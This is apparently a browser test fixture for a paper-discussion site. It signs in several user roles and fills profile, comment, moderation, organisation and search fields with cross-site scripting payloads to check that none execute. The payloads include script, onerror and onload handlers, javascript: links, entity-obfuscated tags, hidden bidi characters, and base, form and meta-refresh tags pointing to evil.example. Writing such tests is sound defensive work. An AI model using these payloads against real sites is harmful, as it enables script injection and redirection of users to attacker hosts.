// A site on which people have written what means harm into every field that takes
// words, through the forms as browsers send them.
import assert from 'node:assert/strict';
import { account } from './site.mjs';

export const paper = '2601.10007';
const author = 'Ada A. Brandungsforscherin';

// Turns text around, and cannot be seen: neither may come back out.
const unseen = '\u202e\u2066\u200b\u2060';

/** evil is a text for a short field; n tells in what shows it which field it came from. */
const evil = (n) => `${unseen}'"></title></textarea><xss-${n} autofocus onfocus=ran=1>`;

/** worse is one for a field of 500 characters. */
const worse = (n) => evil(n) + ['<script>globalThis.ran=1</script>', '<img src=x onerror=globalThis.ran=1>', '<svg onload=globalThis.ran=1>', '[x](javascript:globalThis.ran=1)',
  '<base href=//evil.example/>', '<form action=//evil.example>', '<meta http-equiv=refresh content=0;url=//evil.example>', '&lt;img src=x onerror=globalThis.ran=1&gt;', '<a href="java&#9;script:ran=1">x</a>', '<!--', '{{.}}'].join(' ');

/** fields are what was written, by the number in it: each is to be seen on a page. */
export const fields = {
  1: 'full name', 2: 'affiliation', 3: 'bio', 4: 'link of a profile', 5: 'comment', 6: 'edited comment', 7: 'preview', 8: 'report', 9: 'what is submitted', 10: 'comment of a submission',
  11: 'media of a submission', 12: 'evidence of a claim', 13: 'name of a token', 14: 'note of an invitation', 15: 'name of a passkey', 16: 'text of the rules', 17: 'reason of rules', 18: 'blocked word',
  19: 'name of an organisation', 20: 'what an organisation is', 21: 'link of an organisation', 22: 'reason of hiding', 23: 'reason of a ban', 24: 'reason of a rejection', 25: 'link of a paper',
  26: 'reason of links', 27: 'reason of a merge', 28: 'handle', 29: 'search', 30: 'filter of the log', 31: 'search for people', 32: 'reason of a role', 33: 'appeal',
};

/** send fills fields of the form that holds the first of them, by name, and presses a button of it. */
async function send(page, values, button) {
  const form = page.locator('main form', { has: page.locator(`[name="${Object.keys(values)[0]}"]`) }).filter({ has: page.locator(`button${button}`) }).first();
  for (const [name, value] of Object.entries(values)) {
    const field = form.locator(`[name="${name}"]`).first();
    if (value === true) await field.check();
    else if ((await field.evaluate((el) => el.tagName)) === 'SELECT') await field.selectOption(value);
    else await field.fill(value);
  }
  await form.locator(`button${button}`).first().click();
  await page.waitForLoadState();
}

/** comment says something by the form's own request, and gives its token. */
async function comment(page, url, text, parent = '') {
  const answer = await page.request.post(`${url}/comments`, { form: { paper, parent, text }, headers: { accept: 'application/json', origin: url, 'sec-fetch-site': 'same-origin' } });
  assert.equal(answer.status(), 200, `comment: ${await answer.text()}`);
  return (await answer.json()).token;
}

/**
 * populate signs people in, has them write, and gives their browser contexts, what
 * they made, and pages to look at. seen(page, name) is called for pages that
 * only an answer to a form shows.
 */
export async function populate(site, base, browser, relay, seen) {
  const people = {};
  const said = [];
  const context = async (name) => {
    const made = (people[name] = await browser.newContext({ viewport: { width: 1440, height: 900 } }));
    made.on('console', (message) => ['error', 'warning'].includes(message.type()) && !/status of 4\d\d/.test(message.text()) && said.push(`${name}: ${message.text()}`));
    made.on('weberror', (error) => said.push(`${name}: ${error.error()}`));
    made.setDefaultTimeout(15_000);
    return made;
  };
  const enter = async (name, role) => {
    const page = await (await context(name)).newPage();
    await page.goto(base + (await account(site, name, role)));
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL((url) => !url.pathname.startsWith('/sign-in'));
    return page;
  };
  const [root, chair, mary, ned] = [await enter('rhoda', 'admin'), await enter('chair', 'moderator'), await enter('mary', 'member'), await enter('ned', 'member')];
  const open = (page, path) => page.goto(base + path);

  await open(root, '/admin/rules');
  await send(root, { text: worse(16), appeal: evil(33), reason: evil(17) }, ':not([name])');
  await seen(root, 'rules with a mistake');
  await open(root, '/admin/rules');
  await send(root, { registration: 'invite', text: worse(16), blockedWords: evil(18), reason: evil(17) }, ':not([name])');
  await open(root, '/admin/accounts/ned');
  await send(root, { role: 'curator', reason: evil(32) }, '[value="role"]');

  // A stranger is invited, and signs up.
  await open(mary, '/account/invites');
  await send(mary, { note: evil(14) }, ':not([name])');
  const invite = new URL(await mary.locator('code.secret').textContent(), base).href;
  await seen(mary, 'invitation');
  const late = await (await context('late')).newPage();
  await late.goto(invite);
  await send(late, { address: 'late@reader.example' }, ':not([name])');
  await seen(late, 'code');
  await send(late, { code: 'ABCD-EFGH' }, ':not([name])');
  await seen(late, 'wrong code');
  await late.goto(base + (await relay.link('late@reader.example', '/sign-in/link/')));
  await seen(late, 'link of a mail');
  await late.locator('main form button').first().click();
  await late.waitForURL('**/sign-in/name');
  await send(late, { name: `${unseen}"><xss-28>` }, ':not([name])');
  await seen(late, 'name that cannot be had');
  await send(late, { name: 'late' }, ':not([name])');

  await open(mary, '/account');
  await send(mary, { name: evil(1), affiliation: evil(2), bio: worse(3).slice(0, 500), links: 'javascript:globalThis.ran=1//"><xss-4>' }, ':not([name])');
  await seen(mary, 'profile with a mistake');
  await send(mary, { links: 'https://links.example/?"><xss-4>' }, ':not([name])');
  await open(mary, '/account/tokens');
  await send(mary, { name: evil(13), scope: true }, ':not([name])');
  await seen(mary, 'token');
  const cdp = await people.mary.newCDPSession(mary);
  await cdp.send('WebAuthn.enable');
  await cdp.send('WebAuthn.addVirtualAuthenticator', { options: { protocol: 'ctap2', transport: 'internal', hasResidentKey: true, hasUserVerification: true, isUserVerified: true, automaticPresenceSimulation: true } });
  await open(mary, '/account/security');
  await mary.locator('#k').fill(evil(15));
  await mary.getByRole('button', { name: 'Add a passkey' }).click();
  await mary.locator('[data-codes] li').nth(9).waitFor();

  // A discussion.
  await open(mary, `/papers/${paper}`);
  await mary.locator('#say [name="text"]').fill(worse(7));
  await mary.locator('#say button[name="preview"]').click();
  await mary.locator('.seen').waitFor();
  await seen(mary, 'preview');
  const bad = await comment(mary, base, worse(5));
  const edited = await comment(mary, base, 'Before');
  await open(mary, `/comments/${edited}/edit`);
  await send(mary, { text: worse(6) }, ':not([name])');
  let last = '';
  for (let i = 0; i < 24; i++) last = await comment(chair, base, `Remark ${i} with $x_{${i}}$ and \`code\`, @mary.\n\n> said before\n\n- one\n- two`, i % 3 ? last : '');
  await open(mary, `/report?kind=comment&object=${last}`);
  await send(mary, { reason: true, text: worse(8).slice(0, 500) }, ':not([name])');

  // A submission that is looked for in vain, one that is sent and one that is rejected.
  await open(mary, '/submit');
  await send(mary, { url: evil(9) }, ':not([name])');
  await seen(mary, 'submission of what is no paper');
  const submit = async (id, values) => {
    await open(mary, '/submit');
    await send(mary, { url: id }, ':not([name])');
    await mary.waitForURL('**/submissions/*');
    if (values.media) {
      await send(mary, { ...values, media: `https://media.example/?${evil(11)}` }, ':not([name])').catch(() => {});
      await seen(mary, 'submission');
    }
    const at = new URL(mary.url()).pathname;
    await open(mary, at);
    if (await mary.locator('[name="comment"]').count()) await send(mary, { comment: values.comment }, ':not([name])');
    return at;
  };
  const waiting = await submit('2606.10001', { comment: worse(10), media: 'x' });
  const rejected = await submit('2606.10002', { comment: 'Short.' });
  await open(chair, '/queue');
  const entry = chair.locator(`#s-${rejected.split('/').at(-1)}`);
  await entry.locator('[name="reason"]').fill(evil(24));
  await entry.locator('button[value="reject"]').click();

  // A claim, and what a known author adds; an organisation.
  await open(mary, `/claims/new?paper=${paper}`);
  await mary.getByLabel(author).check();
  await send(mary, { evidence: worse(12).slice(0, 500) }, ':not([name])');
  await open(mary, '/claims/new?paper=2601.10004');
  await mary.locator('[name="author"]').first().check();
  await send(mary, { evidence: worse(12).slice(0, 500) }, ':not([name])');
  await open(chair, `/moderation/claims?paper=${paper}`);
  await send(chair, { reason: 'It is so.' }, '[value="accept"]');
  await open(mary, `/papers-links?paper=${paper}`);
  await send(mary, { code: `https://code.example/?"><xss-25>`, reason: evil(26) }, ':not([name])');
  await seen(mary, 'links with a mistake');
  await open(chair, '/orgs-new');
  await send(chair, { key: 'wave-lab', name: evil(19) }, ':not([name])');
  await seen(chair, 'new organisation');
  await open(chair, '/orgs/wave-lab/page');
  await send(chair, { description: worse(20), link: `javascript:ran=1//"><xss-21>` }, ':not([name])');
  await seen(chair, 'organisation with a mistake');
  await send(chair, { link: 'https://lab.example/?"><xss-21>' }, ':not([name])');
  await open(chair, '/moderation/claims');
  await send(chair, { name: evil(27), into: author, reason: evil(27) }, '[value="merge"]');
  await seen(chair, 'authors that cannot be one');
  await open(chair, '/moderation/claims');
  await send(chair, { name: 'Ada B. Brandungsforscherin', into: author, reason: evil(27) }, '[value="merge"]');

  // Moderators decide; somebody is banned.
  const worst = await comment(ned, base, 'To be hidden');
  await open(chair, `/moderation/object?kind=comment&object=${worst}`);
  await send(chair, { reason: evil(22) }, '[value="hide"]');
  await open(chair, '/moderation/object?kind=account&object=late');
  await send(chair, { reason: evil(23) }, '[value="ban"]');

  const of = (who, list) => list.map(([name, path, status = 200]) => ({ who, name, path, status }));
  const talk = `/papers/${paper}`;
  const pages = [
    ...of('', [['paper', talk], ['paper, newest', `${talk}?sort=newest`], ['latest comments', '/comments'], ['history', `/comments/${edited}/history`], ['person', '/people/mary'], ['banned person', '/people/late'],
      ['voters', `/voters/${paper}`], ['log', '/log'], ['log, sifted', `/log?actor=${encodeURIComponent(evil(30))}`], ['rules', '/rules'], ['organisation', '/orgs/wave-lab'], ['members', '/orgs/wave-lab/members'], ['organisations', '/orgs'],
      ['search', `/search?q=${encodeURIComponent(evil(29))}`], ['sign in', '/sign-in?next=/papers&to=vote'], ['code', '/sign-in/code'], ['left', '/sign-in/left'], ['nobody', '/people/nobody-here', 404]]),
    ...of('mary', [['front', '/papers'], ['paper', talk], ['paper, oldest', `${talk}?sort=oldest`], ['profile', '/account'], ['security', '/account/security'], ['app for codes', '/account/security/app'], ['sessions', '/account/sessions'], ['tokens', '/account/tokens'],
      ['data', '/account/data'], ['delete', '/account/delete'], ['invitations', '/account/invites'], ['notifications', '/notifications'], ['choices', '/notifications/choices'], ['submit', '/submit'], ['submissions', '/submissions'],
      ['submission that waits', waiting], ['submission that was rejected', rejected], ['claims', '/claims'], ['claim', '/claims/new?paper=2601.10002'], ['claimed', `/claims/new?paper=${paper}`], ['links', `/papers-links?paper=${paper}`],
      ['report', `/report?kind=comment&object=${last}`], ['report a paper', `/report?kind=paper&object=${paper}`], ['report a person', '/report?kind=account&object=chair'], ['reply', `/comments/${last}/reply?quote=1`], ['edit', `/comments/${bad}/edit`],
      ['delete a comment', `/comments/${bad}/delete`], ['react', `/comments/${last}/react`], ['own page', '/people/mary'], ['members', '/orgs/wave-lab/members'], ['sign in again', '/sign-in/again'], ['sign out', '/sign-out'], ['not for members', '/admin', 403]]),
    ...of('chair', [['paper', talk], ['moderation', '/moderation'], ['a comment', `/moderation/object?kind=comment&object=${worst}`], ['a person', '/moderation/object?kind=account&object=late'], ['a paper', `/moderation/object?kind=paper&object=${paper}`],
      ['claims that wait', '/moderation/claims'], ['claims of a paper', `/moderation/claims?paper=${paper}`], ['queue', '/queue'], ['new organisation', '/orgs-new'], ['page of an organisation', '/orgs/wave-lab/page'], ['log', '/log'], ['notifications', '/notifications']]),
    ...of('rhoda', [['overview', '/admin'], ['rules', '/admin/rules'], ['people', `/admin/accounts?find=${encodeURIComponent(evil(31))}`], ['all people', '/admin/accounts'], ['a person', '/admin/accounts/ned'], ['sources', '/admin/sources'], ['kept', '/admin/sources/kept'],
      ['jobs', '/admin/jobs'], ['delivery', '/admin/delivery'], ['storage', '/admin/storage'], ['audit', '/admin/audit']]),
  ];
  return { people, said, pages };
}
